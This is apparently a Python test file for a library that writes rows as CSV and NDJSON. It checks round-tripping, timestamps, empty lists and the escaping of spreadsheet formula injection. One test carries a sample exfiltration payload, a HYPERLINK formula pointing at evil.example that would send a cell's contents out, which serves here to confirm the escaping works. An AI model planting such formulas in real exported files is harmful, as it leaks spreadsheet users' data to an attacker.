"""Lists as NDJSON and CSV."""

import csv
import io
import json
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from caravan.lists import Form, pieces

COLUMNS = ("line", "text")
TEXTS = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0"))


def written(form: Form, *rows: tuple[object, ...]) -> str:
    return "".join(pieces(form, COLUMNS, iter([rows])))


@given(st.lists(st.tuples(st.integers(-9, 2**62), TEXTS)))
def test_csv_is_read_back_as_it_was_but_for_what_looks_like_a_formula(rows: list[tuple[int, str]]) -> None:
    text = written(Form.CSV, *rows)
    head, *found = csv.reader(io.StringIO(text, newline=""))
    assert head == list(COLUMNS)
    assert text.endswith("\r\n")
    for (number, told), (line, cell) in zip(rows, found, strict=True):
        assert line == str(number)
        assert told == cell or (told == cell[1:] and cell[0] == "'")
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@given(st.lists(st.tuples(st.integers(), TEXTS)))
def test_ndjson_is_exact(rows: list[tuple[int, str]]) -> None:
    found = [json.loads(line) for line in written(Form.NDJSON, *rows).split("\n")[:-1]]
    assert [(each["line"], each["text"]) for each in found] == rows


def test_a_formula_is_text_and_a_negative_number_a_number() -> None:
    row = (-3, '=HYPERLINK("http://evil.example?"&A1;"click")')
    assert written(Form.CSV, row) == 'line,text\r\n-3,"\'=HYPERLINK(""http://evil.example?""&A1;""click"")"\r\n'


def test_moments_and_missing_values_have_a_form() -> None:
    at = datetime(2026, 5, 4, 9, tzinfo=UTC)
    assert written(Form.CSV, (at, None)) == "line,text\r\n2026-05-04T09:00:00+00:00,\r\n"
    assert written(Form.NDJSON, (at, None)) == '{"line": "2026-05-04T09:00:00+00:00", "text": null}\n'


def test_an_empty_list_has_a_header_and_what_gives_the_rows_is_closed() -> None:
    closed = []

    def rows():  # type: ignore[no-untyped-def]
        try:
            yield [(1, "a")]
            yield [(2, "b")]
        finally:
            closed.append(True)

    assert "".join(pieces(Form.CSV, COLUMNS, [])) == "line,text\r\n"
    assert "".join(pieces(Form.NDJSON, COLUMNS, [])) == ""
    some = pieces(Form.CSV, COLUMNS, rows())
    assert next(some) == "line,text\r\n1,a\r\n"
    some.close()
    assert closed
